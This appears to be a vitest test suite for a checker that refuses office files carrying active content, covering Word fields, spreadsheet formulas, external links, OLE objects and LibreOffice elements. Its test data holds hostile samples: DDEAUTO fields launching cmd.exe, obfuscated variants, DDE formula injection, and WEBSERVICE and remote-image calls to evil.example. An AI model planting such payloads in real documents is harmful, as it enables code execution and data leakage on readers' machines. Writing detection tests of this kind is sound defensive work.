import { expect, test } from 'vitest'
import { docx, makeZip, odt, relationship, type MadeEntry } from '../../testing/make-zip.ts'
import { checkFile } from '../check-file.ts'

const refusedAs = async (bytes: Buffer) =>
  checkFile(bytes).then(
    () => 'accepted',
    (error: { code?: string }) => error.code,
  )

const run = (inside: string) => `<w:r>${inside}</w:r>`
const mark = (kind: string) => run(`<w:fldChar w:fldCharType="${kind}"/>`)
const piece = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)
const field = (...pieces: string[]) =>
  `${mark('begin')}${pieces.join('')}${mark('separate')}${run('<w:t>1</w:t>')}${mark('end')}`
const written = (body: string) => docx([], `<w:document xmlns:w="x"><w:body><w:p>${body}</w:p></w:body></w:document>`)

test.each([
  ['at once', piece(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')],
  ['on demand', piece('dde cmd "/c calc"')],
  ['in pieces', piece(' DD') + piece('EAU') + piece('TO cmd "/k calc"')],
  ['around another field', piece('DD') + field(piece('PAGE')) + piece('E cmd')],
  ['within another field', piece('IF ') + field(piece('DDEAUTO cmd "/k calc"')) + piece(' = 1')],
  ['with references for letters', piece('&#68;DE&#x41;UTO cmd')],
  ['with sections and comments', piece('<![CDATA[DD]]>E<!-- > -->AUTO cmd')],
  ['in text that was struck out', run('<w:delInstrText>DDEAUTO cmd</w:delInstrText>')],
])('a field that starts a program is refused, written %s', async (_, pieces) => {
  expect(await refusedAs(written(field(pieces)))).toBe('activeContent')
  expect(await refusedAs(written(mark('begin') + pieces))).toBe('activeContent')
})

test.each([
  ['LINK Excel.Sheet.12 "C:\\\\a.xlsx" "R1C1"', 'activeContent'],
  ['INCLUDETEXT "C:\\\\a.docx"', 'activeContent'],
  ['INCLUDEPICTURE http://evil.example/x.png \\d', 'activeContent'],
  ['INCLUDEPICTURE "\\\\\\\\evil\\\\x.png"', 'activeContent'],
  ['INCLUDEPICTURE "C:\\\\Users\\\\lan\\\\dau.png" \\* MERGEFORMAT', 'accepted'],
  ['HYPERLINK "https://dichvucong.gov.vn"', 'accepted'],
  ['MERGEFIELD DDE', 'accepted'],
  ['PAGE \\* MERGEFORMAT', 'accepted'],
  ['TOC \\o "1-3" \\h', 'accepted'],
  ['EMBED Equation.3', 'accepted'],
])('the field %s is %s', async (instruction, expected) => {
  expect(await refusedAs(written(field(piece(instruction))))).toBe(expected)
  expect(await refusedAs(written(`<w:fldSimple w:instr='${instruction}'/>`))).toBe(expected)
})

test('words about fields are not fields', async () => {
  const text = '<w:t>DDEAUTO cmd | WEBSERVICE("http://x")</w:t><!-- <w:instrText>DDEAUTO</w:instrText> -->'
  expect(await refusedAs(written(`${run(text)}<m:f><m:t>a|b</m:t></m:f>`))).toBe('accepted')
})

const sheet = (formula: string) => ({
  name: 'xl/worksheets/sheet1.xml',
  bytes: `<worksheet><c r="A1"><f>${formula}</f><v>1</v></c></worksheet>`,
})

test.each([
  ["cmd|' /C calc'!A0", 'activeContent'],
  ["+cmd&#124;'/C calc'!A0", 'activeContent'],
  ["'a\"b'!A1&amp;cmd|'/C calc'!A0&amp;\"\"", 'activeContent'],
  ['_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)', 'activeContent'],
  ['RTD("x.y",,"a")', 'activeContent'],
  ['IF(A1="a|b","DDE(1)",SUM({1,2;3,4}))', 'accepted'],
  ['MYIMAGE(A1)+[1]Sheet1!$A$1', 'accepted'],
])('the formula %s is %s', async (formula, expected) => {
  expect(await refusedAs(docx([sheet(formula)]))).toBe(expected)
  expect(
    await refusedAs(docx([{ ...sheet(''), bytes: `<workbook><definedName>${formula}</definedName></workbook>` }])),
  ).toBe(expected)
})

test('sheets that are tied to programs are refused, sheets that quote another sheet are not', async () => {
  const link = (inside: string) =>
    docx([{ name: 'xl/externalLinks/externalLink1.xml', bytes: `<x:externalLink>${inside}</x:externalLink>` }])
  expect(await refusedAs(link('<x:ddeLink ddeService="cmd" ddeTopic="/c calc"/>'))).toBe('activeContent')
  expect(await refusedAs(link('<oleLink progId="Package"/>'))).toBe('activeContent')
  expect(await refusedAs(link('<externalBook><sheetNames/></externalBook>'))).toBe('accepted')
  const connection = (when: string) => docx([{ name: 'xl/connections.xml', bytes: `<a><connection ${when}/></a>` }])
  expect(await refusedAs(connection('refreshOnLoad="1"'))).toBe('activeContent')
  expect(await refusedAs(connection('refreshOnLoad="0"'))).toBe('accepted')
})

test.each(['image', 'frame', 'subDocument', 'mailMergeSource', 'aFChunk'])(
  'a part of the kind %s that lies elsewhere is refused, one on the own disk is not',
  async (kind) => {
    for (const place of [
      'https://evil.example/a',
      '//evil.example/a',
      '\\\\evil\\a',
      '%5C%5Cevil%5Ca',
      'file://evil/a',
    ])
      expect(await refusedAs(docx([relationship(kind, place)]))).toBe('activeContent')
    expect(await refusedAs(docx([relationship(kind, 'file:///C:\\Users\\lan\\a.png')]))).toBe('accepted')
  },
)

test('a relationship says what it is once: attributes of other namespaces hide nothing', async () => {
  const { name, bytes } = relationship('oleObject', 'https://evil.example/a')
  expect(
    await refusedAs(
      docx([{ name, bytes: String(bytes).replace('<Relationship ', '<Relationship x:Type="hyperlink" ') }]),
    ),
  ).toBe('activeContent')
})

const container = (word: string) =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from(word, 'utf16le')])

test('an object of another program is refused wherever it stands; an equation and an office file without such are not', async () => {
  const inside = (kind: string, bytes: Buffer | string, place = 'word/objects/a.bin') => {
    const link = relationship(kind, `/${place}`)
    return docx([
      { ...link, bytes: String(link.bytes).replace(' TargetMode="External"', '') },
      { name: place, bytes },
    ])
  }
  expect(await refusedAs(inside('oleObject', container('WordDocument')))).toBe('activeContent')
  expect(await refusedAs(inside('oleObject', 'anything'))).toBe('activeContent')
  expect(await refusedAs(inside('aFChunk', '{\\rtf1 \\objupdate}'))).toBe('activeContent')
  expect(await refusedAs(inside('hyperlink', 'anything', 'word/embeddings/oleObject1.bin'))).toBe('activeContent')
  expect(await refusedAs(inside('oleObject', container('Equation Native')))).toBe('accepted')
  expect(await refusedAs(inside('package', docx()))).toBe('accepted')
  expect(await refusedAs(inside('package', written(field(piece('DDEAUTO cmd')))))).toBe('activeContent')
})

const text = (content: string, more: MadeEntry[] = []) =>
  makeZip([
    { name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.text', isStored: true },
    { name: 'META-INF/manifest.xml', bytes: '<manifest/>' },
    { name: 'content.xml', bytes: `<office:document-content>${content}</office:document-content>` },
    ...more,
  ])

test.each([
  ['<text:dde-source office:dde-application="cmd"/>', 'activeContent'],
  ['<office:dde-source office:dde-application="cmd"/>', 'activeContent'],
  ['<table:dde-link/>', 'activeContent'],
  ['<text:dde-connection-decl/>', 'activeContent'],
  ['<draw:plugin xlink:href="a"/>', 'activeContent'],
  ['<draw:applet/>', 'activeContent'],
  ['<draw:floating-frame xlink:href="a"/>', 'activeContent'],
  ['<draw:object-ole xlink:href="./Object 1"/>', 'activeContent'],
  ['<draw:object-ole><office:binary-data>0M8R4A</office:binary-data></draw:object-ole>', 'activeContent'],
  ['<draw:object xlink:href="https://evil.example/a.odt"/>', 'activeContent'],
  ['<draw:image xlink:href="https://evil.example/a.png"/>', 'activeContent'],
  ['<text:section-source xlink:href="https://evil.example/a.odt"/>', 'activeContent'],
  ['<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>', 'activeContent'],
  ['<table:table-cell table:formula="of:=WEBSERVICE([.A1])"/>', 'activeContent'],
  ['<table:table-cell table:formula="of:=SUM({1;2|3;4})"/>', 'accepted'],
  ['<text:a xlink:href="https://dichvucong.gov.vn">x</text:a>', 'accepted'],
  ['<draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>', 'accepted'],
])('a LibreOffice text with %s is %s', async (content, expected) => {
  expect(await refusedAs(text(content))).toBe(expected)
})

test('what stands in a part of a LibreOffice text is looked at like the text', async () => {
  const part = (content: string) => odt([{ name: 'Object 2/content.xml', bytes: `<a>${content}</a>` }])
  expect(await refusedAs(part('<table:dde-link/>'))).toBe('activeContent')
  expect(await refusedAs(part('<table:table-cell/>'))).toBe('accepted')
})

test('an equation in a LibreOffice text is accepted', async () => {
  const equation = { name: 'Object 1', bytes: container('Equation Native') }
  expect(await refusedAs(text('<draw:object-ole xlink:href="./Object 1"/>', [equation]))).toBe('accepted')
})
